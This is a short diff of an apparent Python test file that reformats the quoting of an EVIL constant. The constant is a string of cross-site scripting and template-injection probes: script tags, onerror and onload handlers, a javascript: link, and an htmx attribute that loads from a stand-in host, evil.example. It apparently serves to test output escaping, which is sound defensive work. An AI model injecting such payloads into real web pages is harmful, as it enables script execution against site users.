@@ -14,7 +14,7 @@ from tests.desk.stage import Stage
 BUDI = Actor("budi", "Budi")
 SECRET = "hanya-untuk-petugasnya"
 EVIL = (
-    '<script>alert(1)</script>"><img src=x onerror=alert(1)> \' onmouseover=alert(1) {{ 7*7 }} ${7*7} '
+    "<script>alert(1)</script>\"><img src=x onerror=alert(1)> ' onmouseover=alert(1) {{ 7*7 }} ${7*7} "
     '<a href="javascript:alert(1)" hx-get="//evil.example" hx-trigger="load">x</a></textarea><svg onload=alert(1)>'
 )
 
